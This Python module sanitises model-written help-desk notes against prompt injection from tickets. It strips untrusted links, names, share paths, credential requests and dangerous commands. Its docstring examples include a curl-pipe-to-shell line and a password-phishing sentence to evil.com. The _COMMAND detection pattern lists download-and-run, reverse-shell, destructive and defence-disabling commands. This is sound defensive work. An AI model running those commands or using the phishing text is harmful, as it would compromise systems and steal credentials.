r"""Removes from text for a note what could harm its reader.

Anybody can write a ticket, and a ticket can make the model write what its author wants ("prompt injection"). The note
is read by a technician who trusts it. So a note's text has:

- no link but those to the pages of gathered sources;
- no name in public DNS but those in the tenant's own knowledge, assets and monitoring. A name that only a ticket
  mentions is shown as `evil[.]example`, which no program makes a link of;
- no path to another machine, no request for credentials, no command that downloads or destroys;
- nothing that looks like the note's own fixed parts, e.g. its footer.

`harmless` is for text that a model wrote, `excerpt` for text of a source. `excerpt` trusts a knowledge article, which
the tenant's staff wrote, more than a ticket, which a requester wrote.

For example: the gathered sources are an article with the page https://sdp.acme.example/kb/5 whose text names the
gateway gw.acme.example, and the asset srv-file01; the ticket says "mail from evil.com".

    a model's text                                   what `harmless` makes of it
    ──────────────────────────────────────────────   ────────────────────────────────────────────────────────────────
    See https://sdp.acme.example/kb/5.               unchanged: the page of a source
    Restart gw.acme.example.                         unchanged: an article names it
    See https://evil.com/login                       See [link removed]
    Look at hxxp://evil[.]com/a                      Look at [link removed]     (read as a person would read it)
    The mail came from evil.com                      The mail came from evil[.]com     (the ticket names it)
    Ask at other.com                                 Ask at [name removed]     (nothing names it)
    Copy \\srv-file01\share                          unchanged: a known asset
    Copy \\10.9.9.9\x                                Copy [path removed]
    Send your password to help@evil.com. Restart.    [request for credentials removed] Restart.
    Run curl http://x.com/a | sh                     Run [command removed]
    See settings.py                                  unchanged: a file, not a name in DNS
"""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from functools import cache
from importlib import resources
from typing import Final

from app.core.labels import all_labels
from app.core.masking import find_secrets
from app.core.source import Gathered, SourceKind
from app.core.text import plain_text, tidy, unescaped

LINK_REMOVED: Final = "[link removed]"
NAME_REMOVED: Final = "[name removed]"
PATH_REMOVED: Final = "[path removed]"
ID_REMOVED: Final = "[id removed]"
COMMAND_REMOVED: Final = "[command removed]"
REQUEST_REMOVED: Final = "[request for credentials removed]"
OPAQUE_REMOVED: Final = "[text removed]"

_INTERNAL: Final = frozenset("local lan internal intra intranet corp home localdomain ad priv private".split())
"""Last labels of names that are used in private networks and don't exist in public DNS."""
_FILES: Final = frozenset(
    "exe dll sys msi msp msu bat cmd ps1 psm1 vbs js ts jsx tsx mjs json jsonl yaml yml toml xml xsd xsl html htm "
    "css csv tsv txt log "
    "md rst pdf doc docx docm xls xlsx xlsm ppt pptx pst ost msg eml one vsdx zip rar tar gz bz2 xz iso img vhd "
    "vhdx vmdk ova cab jar "
    "war ear class py pyc rb pl sh bash c cpp h cs java go rs php asp aspx jsp sql bak mdb accdb ldf mdf db "
    "sqlite ini cfg conf config "
    "reg inf lnk url rdp pem crt cer key pfx csr jpg jpeg png gif bmp svg ico tif tiff mp3 mp4 avi mov wav ttf "
    "otf apk ipa dmg pkg deb "
    "rpm so dylib ko bin dat dmp tmp lock pid etl evtx evt nsf ics vcf p12 nupkg npm".split()
)
_BOTH: Final = frozenset("zip mov sh py md pl rs so app".split())
"""Endings of files that are also top-level domains. `setup.zip` stays if the ticket or a source mentions it."""
_SCRIPT_FILES: Final = frozenset("sh py md pl rs so".split())
_PRODUCTS: Final = frozenset({"asp.net", "vb.net", "ado.net", "paint.net"})

# Characters that look like those of an address: other dots, slashes and colons, styled letters, other scripts.
_LOOKALIKES: Final = str.maketrans(
    {
        **dict.fromkeys("。．｡․﹒", "."),
        **dict.fromkeys("／∕⁄⧸╱", "/"),
        **dict.fromkeys("：﹕∶꞉ː", ":"),
        **dict.fromkeys("＠﹫", "@"),
        **dict.fromkeys("＼﹨∖⧵", "\\"),
    }
)
_STYLED = re.compile("[\uff01-\uff5e\u24b6-\u24e9\U0001d400-\U0001d7ff\U0001f130-\U0001f149\U0001f170-\U0001f189]")
_SCRIPTS: Final = str.maketrans(
    "аеорсухіјѕԁһӏвнкмтАВЕКМНОРСТХІЈЅοανρτυικΑΒΕΖΗΙΚΜΝΟΡΤΥΧ",
    "aeopcyxijsdhlbhkmtABEKMHOPCTXIJSoavptuikABEZHIKMNOPTYX",
)
_ENTITY = re.compile(r"&(?:#\d{1,7}|#[xX][0-9a-fA-F]{1,6}|[A-Za-z]{2,31});?")
_ENTITY_ROUNDS: Final = 4
_MARKDOWN = re.compile(r"!?\[(?P<text>[^\[\]\n]{0,200})\]\((?P<target>(?:[^()\n]|\([^()\n]{0,200}\)){0,500})\)?")
_ELEMENTS: Final = (
    r"(?:a|img|script|style|iframe|form|input|button|svg|object|embed|link|meta|base|body|html|div|span|p|b|i|u|table|tr|td|video"
    r"|audio|details|math|h[1-6]|marquee|template|textarea|select|br|hr|ul|ol|li|font|center|noscript|source|picture)"
)
_ELEMENT = re.compile(rf"</?{_ELEMENTS}\b[^<>]{{0,500}}/?>", re.IGNORECASE)
_ELEMENT_BEGINS = re.compile(rf"<(?=/?{_ELEMENTS}\b)", re.IGNORECASE)
_FENCE = re.compile(r"<{2,}\s*DATA\b(?:\s+[a-z]{24})?|\b[a-z]{24}\s+DATA>*|DATA>{2,}", re.IGNORECASE)

_DEFANGED_DOT = re.compile(r"\s?[\[({<]\s?(?:\.|dot|punkt|point|punto)\s?[\])}>]\s?", re.IGNORECASE)
_SPELLED_DOT = re.compile(r"(?<=\w)\s+(?:dot|punkt|point|punto)\s+(?=[a-z]{2,13}\b)", re.IGNORECASE)
_DEFANGED_SCHEME = re.compile(r"\bh[x*t]{2}p(s?)\s?[\[(]?:[\])]?\s?[\[(]?/[\])]?\s?[\[(]?/[\])]?", re.IGNORECASE)
_SPACED_SCHEME = re.compile(r"h\s?t\s?t\s?p\s?(s?)\s?:\s?[/\\]\s?[/\\]\s*", re.IGNORECASE)

_WORD_BEGINS: Final = r"(?:\b|(?-i:(?<=[a-z])(?=[A-Z])))"
"""The begin of a word, also within a CamelCase word, e.g. of `mailto:` in `pleaseMailto:`."""
_URL = re.compile(
    r"(?:\b[a-z][a-z0-9+.-]{1,20}:[/\\]{2,}|[\w+.-]{0,20}:/{2,}|(?<![\w:/\\])//(?=[\w-]+(?:\.[\w-]+)*/)"
    r"|\b(?:https?|ftp):[/\\]?(?=\w)"
    r"|\bwww\d?\.(?=\w))"
    r"(?:\[[a-z]+-\d+\]|[^\s<>\"')\]])*",
    re.IGNORECASE,
)
_SCHEME = re.compile(
    r"(?:java\s?script|vbscript|livescript)\s?:\s?\S*|"
    + _WORD_BEGINS
    + r"(?:view-source|mhtml|blob|magnet|facetime|whatsapp|msteams|zoommtg|search-ms|mailto|callto|skype|sips?"
    r"|intent|ms-(?!settings)[a-z]+(?:-[a-z]+)*)\s?:\s?\S+|\b(?:tel|sms|file):[^\s<>\"]+"
    r"|\bdata\s?:\s?(?:[\w.+-]+/[\w.+-]+|,|;)[^\s<>\"]*",
    re.IGNORECASE,
)
_HOST = re.compile(r"https?://(?P<name>[\w.-]+)", re.IGNORECASE)
_ADDRESS_WITH_PATH = re.compile(r"(?<![\w.])(?:\d{1,3}\.){3}\d{1,3}(?::\d{1,5})?/(?=[A-Za-z~%?._-])[^\s<>\"')\],;]*")
_SHARE = re.compile(r"\\{2,}(?P<host>\w[\w.$-]*)(?:@[\w@]+)?(?:\\+[^\s<>\"'\\,;]+)*\\*")
_NAME = re.compile(
    r"(?<!\w)(?P<name>(?:\w(?:[\w-]{0,61}\w)?\.){1,8}(?P<end>xn--[\w-]{2,59}"
    r"|[^\W\d_]{2,24}))\.?(?P<port>:\d{2,5}(?!\d))?"
    r"(?P<path>(?:[/?#](?=\S)[^\s<>\"')\]]*)?)(?![\w-])"
)
_UUID = re.compile(
    r"(?<![\w-])\{?[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}\}?(?![\w-])", re.IGNORECASE
)
_OPAQUE = re.compile(r"(?<!\S)(?=\S*[A-Z])(?=\S*[a-z])(?=\S*[0-9=+/])[A-Za-z0-9+/=_-]{40,}(?!\S)")
_CONTACT = re.compile(r"\[(?:email|phone)-\d+\]")
_CITATION = re.compile(r"\s?\[[TKAM]\d{1,3}\]")

# user@198.51.100.7: the mask does not take it for an e-mail address, but a help desk may show it as a link.
_AT = re.compile(r"(?<=[\w.])@(?=[\w-]+\.\w)")

_COMMAND = re.compile(
    r"(?:\b(?:curl|wget|fetch|lynx|iwr|irm|invoke-webrequest|invoke-restmethod)\b.{0,400}?["
    r"|;&]\s*(?:sudo\s+)?(?:(?:ba|z|da|k)?sh|iex|invoke-expression|python\d?|perl|ruby|node|php"
    r"|cmd|powershell|pwsh)\b|\b(?:iex|invoke-expression)\b|\bdownload(?:string|file|data)\b|\bnet\.webclient\b"
    r"|\bstart-bitstransfer\b|\bfrombase64string\b"
    r"|\b(?:powershell|pwsh)(?:\.exe)?\b.{0,80}?\s-e\w*\s+[A-Za-z0-9+/=]{12,}|\bmshta(?:\.exe)?\s"
    r"|\bcertutil(?:\.exe)?\s.{0,80}-(?:urlcache|decode)|\bbitsadmin(?:\.exe)?\s.{0,40}/transfer"
    r"|\bregsvr32(?:\.exe)?\s.{0,60}/i:|\brundll32(?:\.exe)?\s+\w*script|\bwmic\s+.{0,40}process\s+call\s+create"
    r"|\b(?:bash|sh|zsh)\s+(?:-c\s|<\()|[$<]\((?:curl|wget)\b"
    r"|`(?:curl|wget)\b|\beval\s+[\"'`$(]|\bpython\d?\s+-c\s|/dev/tcp/|\bnc(?:at)?\s+.{0,40}-e\b|\brm\s+-(?:rf"
    r"|fr)\b|\bformat(?:\.com)?\s+[a-z]:|\bdel\s+/[sfq]\b|\brd\s+/s\b"
    r"|\bvssadmin\s+delete|\bwevtutil\s+cl\b|\bmkfs\b|\bdd\s+if=|\bremove-item\b.{0,80}-recurse|\bnet\s+(?:user"
    r"|localgroup)\s.{0,80}/add\b|\b(?:set|add)-mppreference\b"
    r"|\bnetsh\s+advfirewall\s+set\s.{0,40}\boff\b|\bschtasks\b.{0,80}/create|\breg(?:\.exe)?\s+(?:add|delete)\b"
    r"|\badd-adgroupmember\b|\bset-executionpolicy\b|\bchmod\s+\+x\b"
    r"|\bmsiexec\b.{0,60}\bhttps?:|:\(\)\s?\{)",
    re.IGNORECASE,
)
_CREDENTIALS: Final = (
    r"(?:passwords?|passcodes?|pass-?phrases?|pins?\b|credentials?|log-?in details|sign-?in details|mfa|2fa|otp"
    r"|one-time code|(?:verification|security|access) codes?|card (?:number|details|data)"
    r"|credit card|bank(?:ing)? (?:details|data)|recovery (?:phrase|key)|secret key|api keys?|tokens?|passwort"
    r"|passwörter|kennwort|zugangsdaten|anmeldedaten|tans?\b|kreditkarte\w*|bankdaten"
    r"|mots? de passe|identifiants?|carte bancaire|coordonnées bancaires|code (?:secret|pin|de vérification)"
    r"|contraseñas?|contrasenas?|clave|credenciales|tarjeta|datos bancarios|código de verificación)"
)
_YOURS = re.compile(
    # "your password": the reader is asked for it. A note about a user says "the user's password".
    rf"(?:\b(?:your|ur|votre|vos|ton|tes|tus?|sus?|deine?[mnrs]?)|(?-i:\bIhre?[mnrs]?))"
    rf"(?:\b[^.!?\n]{{0,40}}?\b)?{_CREDENTIALS}",
    re.IGNORECASE,
)
_ASKS = re.compile(
    _WORD_BEGINS + r"(?:(?:re-?)?enter|type|confirm|verify|validate|provide|send|submit|give|tell|share|update|log ?in"
    r"|sign ?in|use|reply|read|need"
    r"|geben|gib|eingeben|nennen|nenne|bestätige\w*|senden|sende|schicke\w*|teilen|teile|tippe\w*|anmelden|melden"
    r"|entre[rz]|saisi\w+|tape[rz]|confirme[rz]?|vérifie[rz]|envoye[rz]|donne[rz]|communique[rz]|connecte[rz]"
    r"|indique[rz]"
    r"|introdu[zc]\w*|ingres\w+|escrib\w+|verifi\w+|env[ií](?:e|a|ar|en|ame|arme)|facilit\w+|proporcion\w+"
    r"|tecle\w+|diga(?:me)?)\b",
    re.IGNORECASE,
)
_HANDS_OVER = re.compile(
    "|".join(
        rf"(?<!\[)\b(?:{verbs})\s+(?:[^\s.!?]+\s+){{0,4}}?{_CREDENTIALS}\b[^.!?\n]{{0,40}}?\s(?:{where})\s"
        for verbs, where in (
            ("send|give|tell|forward|disclose|submit|post|e-?mail", "to|via|here"),
            ("senden?|schicken?|nennen?|geben", "an|per|hier"),
            ("envoye[rz]|donne[rz]|communique[rz]", "à|au|par|ici"),
            ("env[ií](?:e|a|ar|en)|d[ée]|facilite", "al?|por|aquí"),
        )
    )
    + rf"|\b(?:reply with|read out|ask(?: \w+){{0,3}} for)\s+(?:[^\s.!?]+\s+){{0,4}}?{_CREDENTIALS}",
    re.IGNORECASE,
)
_SENTENCE = re.compile(r"[^.!?\n]*(?:[.!?](?=\S)[^.!?\n]*)*[.!?\n]?\s*")
_HEADING = re.compile(
    r"\bAI[ -]?Agents\b\s*[·•∙|:–—-]+\s*|(?:·\s*)?\bref(?:erence)?\b[\s:#·]*(?:\[id removed\]"
    r"|" + _UUID.pattern + r")",
    re.IGNORECASE,
)


@dataclass(frozen=True, slots=True)
class Known:
    """Links, names and commands that the gathered sources hold, and that may therefore stand in a note."""

    links: frozenset[str]
    """The pages of gathered sources (their `url`)."""
    names: frozenset[str]
    """DNS names in articles, assets, monitoring and house rules outside of links, and the hosts in `links`."""
    mentioned: frozenset[str]
    """DNS names in the ticket or in any source, similar tickets included."""
    hosts: frozenset[str]
    """Words of assets and monitoring, and hosts of shares in articles and house rules: machines without a domain."""
    ids: frozenset[str]
    """UUIDs in articles, assets and monitoring."""
    commands: str
    """The articles' text in lower case without blanks: a command in it was written by the tenant's staff."""

    @classmethod
    def of(cls, gathered: Iterable[Gathered], *, ticket_text: str = "", house_rules: str = "") -> Known:
        groups = list(gathered)
        sources = [source for group in groups for source in group.sources]
        own = "\n".join(f"{each.title}\n{each.text}" for each in sources if each.kind is not SourceKind.TICKET)
        machines = "\n".join(
            f"{each.title}\n{each.text}" for each in sources if each.kind in {SourceKind.ASSET, SourceKind.MEASUREMENT}
        )
        names = _names(_URL.sub(" ", f"{own}\n{house_rules}"))
        articles = "\n".join(each.text for each in sources if each.kind is SourceKind.ARTICLE)
        everything = "\n".join([ticket_text, *(f"{each.title}\n{each.text}" for each in sources)])
        pages = frozenset(each.url for each in sources if each.url)
        return cls(
            links=pages,
            names=names | {host["name"].lower() for page in pages if (host := _HOST.match(page))},
            mentioned=_names(_readable(everything)),
            hosts=frozenset(re.findall(r"[\w-]+", machines.lower()))
            | {match["host"].lower() for match in _SHARE.finditer(f"{articles}\n{house_rules}")},
            ids=frozenset(found.strip("{}").lower() for found in _UUID.findall(own)),
            commands=_squeezed(articles),
        )


def harmless(text: str, known: Known) -> str:
    """*text*, which a model wrote, without what could harm its reader. See the examples at the top of the module."""
    words = _readable(plain_text(_unescaped(text)))
    words = _ELEMENT.sub(" ", _FENCE.sub(" ", words))
    words = _MARKDOWN.sub(lambda link: link["text"], words).replace("](", "] (")
    words = _without_requests(words)
    words = _without_commands(words, known)
    words = _without_values(words)
    words = _URL.sub(lambda link: link[0] if link[0].rstrip(".,;:") in known.links else LINK_REMOVED, words)
    words = _SCHEME.sub(LINK_REMOVED, words)
    words = _ADDRESS_WITH_PATH.sub(LINK_REMOVED, words)
    words = _SHARE.sub(lambda share: _share(share, known), words)
    words = _outside_links(words, known, lambda part: _NAME.sub(lambda name: _name(name, known), part))
    words = _UUID.sub(lambda found: found[0] if found[0].strip("{}").lower() in known.ids else ID_REMOVED, words)
    words = _AT.sub(" @ ", _OPAQUE.sub(OPAQUE_REMOVED, words))
    return tidy(_without_imitations(_CITATION.sub("", words)))


def excerpt(text: str, kind: SourceKind, known: Known) -> str:
    """*text* of a source of *kind*, its links and names made unusable: `https://evil.com/a` becomes `evil[.]com`."""
    is_requesters = kind is SourceKind.TICKET
    words = _readable(tidy(text)) if is_requesters else tidy(text)
    words = _MARKDOWN.sub(
        lambda link: f"{link['text']} {link['target']}".strip(), _ELEMENT.sub(" ", _FENCE.sub(" ", words))
    )
    words = words.replace("](", "] (")
    words = _without_requests(words, with_a_lead_only=not is_requesters)
    if kind is not SourceKind.ARTICLE:
        words = _without_commands(words, known)
    words = _URL.sub(lambda link: _url_in_excerpt(link[0], known), words)
    words = _SCHEME.sub(LINK_REMOVED, words)
    words = _ADDRESS_WITH_PATH.sub(lambda found: re.split(r"[:/]", found[0])[0], words)
    words = _SHARE.sub(lambda share: _share(share, known), words)
    words = _outside_links(words, known, lambda part: _NAME.sub(lambda name: _name(name, known), part))
    if is_requesters:
        words = _AT.sub(" @ ", words)
    return tidy(_without_imitations(_CITATION.sub("", words)))


def _unescaped(text: str) -> str:
    """*text* with its HTML entities as characters, also those that were escaped several times (`&amp;lt;`)."""
    for _ in range(_ENTITY_ROUNDS):
        if not _ENTITY.search(text):
            break
        text = unescaped(text)
    return text


def _readable(text: str) -> str:
    """*text* as a person reads it: lookalike characters replaced, and `hxxp://evil[.]com` or `h t t p : //` joined."""
    text = _STYLED.sub(lambda found: unicodedata.normalize("NFKC", found[0]), text).translate(_LOOKALIKES)
    text = re.sub(r"\S+", lambda word: _folded(word[0]), text)
    text = _DEFANGED_SCHEME.sub(r"http\1://", text)
    text = _SPACED_SCHEME.sub(r"http\1://", text)
    text = _DEFANGED_DOT.sub(".", text)
    return _SPELLED_DOT.sub(lambda dot: "." if _ends_a_name(text[dot.end() :]) else dot[0], text)


def _folded(word: str) -> str:
    """*word* with lookalike letters as Latin ones, if it has a Latin letter; else it is a word of another language."""
    return word.translate(_SCRIPTS) if any("a" <= each <= "z" for each in word.lower()) else word


def _ends_a_name(rest: str) -> bool:
    word = re.match(r"[a-z]*", rest, re.IGNORECASE)
    return word is not None and word[0].lower() in _top_level()


def _without_requests(text: str, *, with_a_lead_only: bool = False) -> str:
    """*text* without sentences that ask the reader for credentials.

    *with_a_lead_only*: only sentences that also have a link, a contact or a name in DNS. An article may rightly say
    "enter your password".
    """

    def kept(sentence: re.Match[str]) -> str:
        words = sentence[0]
        if not (_HANDS_OVER.search(words) or (_YOURS.search(words) and _ASKS.search(words))):
            return words
        has_lead = bool(
            _URL.search(words) or _CONTACT.search(words) or any(_is_public(name) for name in _NAME.finditer(words))
        )
        return f"{REQUEST_REMOVED} " if has_lead or not with_a_lead_only else words

    return _SENTENCE.sub(kept, text)


def _without_commands(text: str, known: Known) -> str:
    """*text* cut before the first command that downloads, hides or destroys, unless an article has the same one."""
    for command in _COMMAND.finditer(text):
        if _squeezed(command[0]) not in known.commands:
            return f"{text[: command.start()]}{COMMAND_REMOVED}"
    return text


def _without_values(text: str) -> str:
    """*text* without contacts, account numbers and secrets: the model saw only placeholders, so it invented them."""
    for start, end, kind in reversed(find_secrets(text)):
        text = f"{text[:start]}[{kind} removed]{text[end:]}"
    return text


def _without_imitations(text: str) -> str:
    """*text* without the note's own fixed words and without the beginnings of HTML elements."""
    return _ELEMENT_BEGINS.sub("< ", _fixed_words().sub("", _HEADING.sub("", text)))


def _share(share: re.Match[str], known: Known) -> str:
    return share[0] if share["host"].lower() in known.hosts else PATH_REMOVED


def _name(found: re.Match[str], known: Known) -> str:
    """What replaces *found*, a word with dots: itself, a defanged form, or a mark that it was removed."""
    name, path = found["name"].lower(), found["path"]
    if not _is_public(found):
        return found[0]
    if path:
        return LINK_REMOVED
    if name in known.names:
        return found[0]
    if name not in known.mentioned:
        return NAME_REMOVED
    if found["end"].lower() in _BOTH and name.count(".") == 1 and not found["port"]:
        return found[0]
    return _defanged(found[0])


def _is_public(found: re.Match[str]) -> bool:
    """Whether *found*, a word with dots, may be a name in public DNS and not a file, a user or a class."""
    end = found["end"].lower()
    if end in _INTERNAL or (end in _FILES and end not in _BOTH) or found["name"].lower() in _PRODUCTS:
        return False
    if end in _SCRIPT_FILES and found["name"].count(".") == 1:
        return found["path"].startswith("/")
    if found["path"].startswith("/") or end.startswith("xn--"):
        return True
    return len(end) == 2 or end in _top_level() or not end.isascii()  # noqa: PLR2004 - a country code


def _url_in_excerpt(link: str, known: Known) -> str:
    if link.rstrip(".,;:") in known.links:
        return link
    host = re.match(r"(?:[a-z][a-z0-9+.-]*:)?[/\\]*(?:[^\s/@]*@)?(?P<host>[\w.-]+)", link, re.IGNORECASE)
    return _defanged(host["host"].rstrip(".")) if host and "." in host["host"] else LINK_REMOVED


def _defanged(name: str) -> str:
    """*name* with each dot as `[.]`. With one dot left, `evil.com[.]example` would still be read as evil.com."""
    return name.replace(".", "[.]")


def _outside_links(text: str, known: Known, change: Callable[[str], str]) -> str:
    """*text* with *change* applied to the parts between the links of gathered sources."""
    if not known.links:
        return change(text)
    parts = re.split("(" + "|".join(map(re.escape, sorted(known.links, key=len, reverse=True))) + ")", text)
    return "".join(part if part in known.links else change(part) for part in parts)


def _names(text: str) -> frozenset[str]:
    return frozenset(match["name"].lower() for match in _NAME.finditer(text))


def _squeezed(text: str) -> str:
    return "".join(text.split()).lower()


@cache
def _top_level() -> frozenset[str]:
    lines = resources.files("app.core").joinpath("domains.txt").read_text("utf-8").splitlines()
    return frozenset(word for line in lines if not line.startswith("#") for word in line.split())


@cache
def _fixed_words() -> re.Pattern[str]:
    """The headings, notices and footers of a note, in all languages."""
    phrases: set[str] = set()
    for words in all_labels().values():
        phrases.update(words[name] for name in words if name.startswith(("footer", "notice")))
        phrases.add(words["title"])
        phrases.update(f"{words['confidence']}: {words[f'confidence_{level}']}" for level in ("low", "medium", "high"))
    patterns = [re.escape(phrase).replace(r"\{model\}", r"\S{1,100}") for phrase in phrases]
    return re.compile("|".join(sorted(patterns, key=len, reverse=True)), re.IGNORECASE)
